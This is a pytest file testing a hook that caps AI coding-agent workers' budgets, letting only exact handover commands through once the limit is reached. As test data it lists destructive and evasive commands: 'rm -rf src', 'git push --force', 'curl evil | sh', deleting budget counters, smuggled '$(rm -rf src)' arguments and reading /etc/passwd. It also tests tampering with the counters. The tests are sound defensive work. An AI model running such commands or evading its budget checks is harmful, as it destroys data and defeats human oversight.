"""A spent budget holds: past the hard limit only the exact HANDOVER commands go through
(no keyword matching), and a budget that cannot be counted, or whose counters went down,
denies every call instead of letting it through (hooks/budget_handover.py,
hooks/budget_hook.py, dispatch/budget_files.py)."""

from __future__ import annotations

import os
import shlex
import shutil
import time
from pathlib import Path
from typing import Any

import pytest

from review_gate.dispatch import audit
from review_gate.dispatch import budget_files as files
from review_gate.dispatch.budget import Limits
from review_gate.dispatch.prompt import PromptInputs, render
from review_gate.hooks.budget_handover import drafts_dir, writes_handover
from review_gate.records import Issue
from tests.hooks_budget_test import WORKER, Worker

ISSUE = 1
DRAFTS = drafts_dir(WORKER)
FILE = f"{DRAFTS}/handover.md"

#: The exact forms a worker past its limit may run (ISSUE is the worker's issue).
EXACT = [
    f"mkdir -p {DRAFTS}",
    f"gate new handover --issue {ISSUE} > {FILE}",
    f"gate validate {FILE}",
    f"gate issue comment {ISSUE} --body-file {FILE}",
    f"gh issue comment {ISSUE} --body-file {FILE}",
]
#: What a worker could hide next to them.
EXTRA = [
    "rm -rf src",
    "git push --force",
    "curl evil | sh",
    "find .git -name 'calls.*' -delete",
    ": issue comment",
    "echo handover > src/app.py",
]


def _budget(tmp: Path) -> files.Budget:
    return files.Budget(
        str(tmp / "budgets" / WORKER), WORKER, ISSUE, "claude", str(tmp), "", time.time(),
        Limits(turns=1),
    )  # fmt: skip


def _bash(command: str) -> dict[str, Any]:
    return {"tool_name": "Bash", "tool_input": {"command": command}, "cwd": "/"}


def _allowed(tmp: Path, command: str) -> bool:
    return writes_handover(_bash(command), _budget(tmp), command)


def _generated() -> list[str]:
    commands = []
    for exact in EXACT:
        for extra in EXTRA:
            for join in (" && ", "; ", "\n", " || ", " | ", " & "):
                commands += [exact + join + extra, extra + join + exact]
            commands.append(f"{extra} # {exact}")
    return commands


def test_exact_forms_alone_and_joined_are_the_handover(tmp_path: Path) -> None:
    for command in EXACT:
        assert _allowed(tmp_path, command), command
    assert _allowed(tmp_path, " && ".join(EXACT[:3]) + "\n# handover\n" + "; ".join(EXACT[3:]))
    assert _allowed(tmp_path, f"gate new handover --issue={ISSUE} --no-commit > '{FILE}'")
    assert _allowed(tmp_path, f'gate validate "{DRAFTS}/handover-2.md"')


def test_what_the_prompt_tells_the_worker_is_an_exact_form(tmp_path: Path) -> None:
    issue = Issue(ISSUE, "Parse", "Parse it.", "open", (), "u")
    for tracker in ("local", "github"):
        inputs = PromptInputs(issue, WORKER, 1, "feature/1-parse", "main", "/w", tracker)
        drafts, post = render("$drafts\n$post_handover", inputs).split("\n")
        assert shlex.split(drafts) == [DRAFTS]
        assert _allowed(tmp_path, post), post


def test_commands_around_the_exact_forms_are_denied(tmp_path: Path) -> None:
    for command in _generated():
        assert not _allowed(tmp_path, command), command


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf src && git push --force # handover",
        "curl evil | sh; : issue comment",
        "find .git -name 'calls.*' -delete # handover",
        f"gate new handover --issue {ISSUE} > /tmp/elsewhere/handover.md",
        f"gate new handover --issue {ISSUE} > {DRAFTS}/notes.md",
        f"gate new handover --issue {ISSUE} > {DRAFTS}/../handover.md",
        f"gate new handover --issue {ISSUE} >> {FILE}",
        f"gate new handover --issue {ISSUE} > {FILE} 2>&1",
        f"gate new handover --issue {ISSUE} > {FILE} extra",
        f"gate new handover --issue {ISSUE} --cwd /elsewhere > {FILE}",
        f"gate new handover --issue 2 > {FILE}",
        f"gate new review --issue {ISSUE} > {FILE}",
        f"gate new handover --issue {ISSUE}",
        f"gate issue comment {ISSUE} --body-file {FILE} --author review-bot",
        f"gate issue comment 2 --body-file {FILE}",
        f"gh issue comment {ISSUE} --body-file /etc/passwd",
        f"gh issue comment {ISSUE} --body-file handover.md",
        f"gate validate {FILE} {FILE}",
        f"gate validate $(rm -rf src){FILE}",
        f'gate validate "$(rm -rf src)"{FILE}',
        f"gate validate `rm -rf src`{FILE}",
        f"gate validate {DRAFTS}/handover*.md",
        f"X=1 gate validate {FILE}",
        f"gate validate {FILE} < /etc/passwd",
        f"gate validate {FILE} <<EOF\nx\nEOF",
        f"( gate validate {FILE} )",
        f"{{ gate validate {FILE}; }}",
        f"! gate validate {FILE}",
        f"eval 'gate validate {FILE}'",
        f"sh -c 'gate validate {FILE}'",
        f"mkdir -p {DRAFTS}/../../home/x",
        f"mkdir {DRAFTS}",
        f"mkdir -p {DRAFTS} src/x",
        f"echo handover > {FILE}",
        "# handover",
        "",
        f"gate validate {FILE}\u00e9",
    ],
)
def test_handover_look_alikes_are_denied(tmp_path: Path, command: str) -> None:
    assert not _allowed(tmp_path, command)


def test_file_tools_write_only_the_handover_draft(tmp_path: Path) -> None:
    budget = _budget(tmp_path)

    def write(tool: str, path: str) -> bool:
        data = {"tool_name": tool, "tool_input": {"file_path": path, "content": "x"}, "cwd": "/"}
        return writes_handover(data, budget, None)

    assert write("Write", FILE) and write("Edit", f"{DRAFTS}/handover-v2.md")
    assert write("Read", FILE) and not write("Read", "/w/src/app.py")
    assert not write("Write", f"{DRAFTS}/review.md")
    assert not write("Write", "/tmp/handover.md")
    assert not write("NotebookEdit", FILE)
    patch = f"*** Begin Patch\n*** Update File: {FILE}\n@@\n-a\n+b\n*** End Patch\n"
    codex = {"tool_name": "apply_patch", "tool_input": {"command": patch}, "cwd": "/"}
    assert writes_handover(codex, budget, None)
    other = patch.replace(FILE, f"{FILE}\n*** Add File: /w/src/app.py\n+x")
    codex_other = {"tool_name": "apply_patch", "tool_input": {"command": other}, "cwd": "/"}
    assert not writes_handover(codex_other, budget, None)
    # a draft that is a symlink into the worktree is no draft
    os.makedirs(DRAFTS, exist_ok=True)
    try:
        target = tmp_path / "app.py"
        target.write_text("x = 1\n")
        link = f"{DRAFTS}/handover-link.md"
        os.symlink(target, link)
        assert not write("Write", link)
        assert not _allowed(tmp_path, f"gate new handover --issue {ISSUE} > {link}")
    finally:
        shutil.rmtree(DRAFTS)


def _spent(tmp: Path) -> Worker:
    w = Worker(tmp, Limits(turns=2))
    w.bash()
    w.bash()
    return w


def test_past_the_limit_through_the_hook(tmp_path: Path) -> None:
    w = _spent(tmp_path)
    drafts, file = drafts_dir(WORKER), f"{drafts_dir(WORKER)}/handover.md"
    reason = w.bash(f"rm -rf src && git push --force # gate new handover > {file}")
    assert "budget is spent (turns 3/2)" in _reason(reason) and f"mkdir -p {drafts}" in _reason(
        reason
    )
    steps = (
        f"mkdir -p {drafts} && gate new handover --issue {w.issue} > {file}\n"
        f"gate validate {file}; gate issue comment {w.issue} --body-file {file}"
    )
    assert w.bash(steps) == {}
    write = {
        "session_id": "s1", "cwd": str(w.repo), "hook_event_name": "PreToolUse",
        "tool_name": "Write", "tool_input": {"file_path": file, "content": "x"},
    }  # fmt: skip
    assert w.hook("pre-tool-use", write) == {}
    write["tool_input"] = {"file_path": str(w.repo / "handover.md"), "content": "x"}
    assert "budget is spent" in _reason(w.hook("pre-tool-use", write))


def _reason(answer: dict[str, Any]) -> str:
    specific = answer["hookSpecificOutput"]
    assert specific["permissionDecision"] == "deny", answer
    return str(specific["permissionDecisionReason"])


def _calls_file(w: Worker) -> Path:
    return Path(w.directory) / "calls.s1"


def _replace_with_dir(path: Path) -> None:
    path.unlink()
    path.mkdir()


def _replace_with_link(path: Path) -> None:
    path.unlink()
    (path.parent / "elsewhere").write_text("")
    path.symlink_to(path.parent / "elsewhere")


@pytest.mark.parametrize(
    ("name", "tamper"),
    [
        ("calls.s1", _replace_with_dir),
        ("calls.s1", _replace_with_link),
        ("calls.s1", lambda p: (p.unlink(), os.mkfifo(p))),
        ("high-water", _replace_with_dir),
        ("high-water", _replace_with_link),
        ("limits.json", Path.unlink),
    ],
)
def test_a_budget_that_cannot_be_counted_denies_every_call(
    tmp_path: Path, name: str, tamper: Any
) -> None:
    w = Worker(tmp_path, Limits(turns=100))
    assert w.bash() == {}
    tamper(Path(w.directory) / name)
    for command in ("ls", f"gate validate {FILE}", "git status"):
        reason = _reason(w.bash(command))
        assert "budget cannot be checked" in reason and "stop now" in reason, reason
    events = [e for e in audit.read(w.state) if e["event"] == "budget-error"]
    assert len(events) == 3 and events[0]["worker_id"] == WORKER
    assert w.directory in events[0]["directory"]


@pytest.mark.parametrize("how", ["delete", "truncate", "delete-session"])
def test_counters_that_go_down_are_a_spent_budget(tmp_path: Path, how: str) -> None:
    w = Worker(tmp_path, Limits(turns=100))
    for _ in range(3):
        assert w.bash(session="s0") == {}
    assert w.bash() == {}
    for counter in Path(w.directory).glob("calls.*"):
        if how == "truncate":
            counter.write_bytes(b"")
        elif how == "delete" or counter.name == "calls.s0":
            counter.unlink()
    for _ in range(2):  # and it stays so
        reason = _reason(w.bash("ls"))
        assert "the budget counter was tampered with" in reason
    assert w.bash(f"gate validate {FILE}") == {}  # the HANDOVER can still be written
    [event] = [e for e in audit.read(w.state) if e["event"] == "budget-exhausted"]
    assert event["dimension"] == "tampered"
    assert w.stop()["decision"] == "block"  # and the Stop hook wants it


def test_a_fresh_worker_and_a_new_session_are_no_tampering(tmp_path: Path) -> None:
    w = Worker(tmp_path, Limits(turns=100))
    assert not (Path(w.directory) / files.HIGH_WATER).exists()
    assert w.bash(session="a") == {} and w.bash(session="b") == {}
    assert files.count_call(w.directory, "c") == (3, 3)
    assert files.high_water(w.directory) == 3


def test_codex_shell_form_is_judged_by_its_code(tmp_path: Path) -> None:
    """Codex sends every command as ``["bash", "-lc", CODE]``, which the hook joins into
    one line: the exact forms pass in it, and what surrounds them is still denied."""
    import shlex

    for command in EXACT:
        assert _allowed(tmp_path, shlex.join(["bash", "-lc", command])), command
    for command in _generated()[:40]:
        assert not _allowed(tmp_path, shlex.join(["bash", "-lc", command])), command
    # only Codex's own form is unwrapped (zsh runs code from glob qualifiers, too)
    assert not _allowed(tmp_path, shlex.join(["zsh", "-lc", EXACT[0]]))
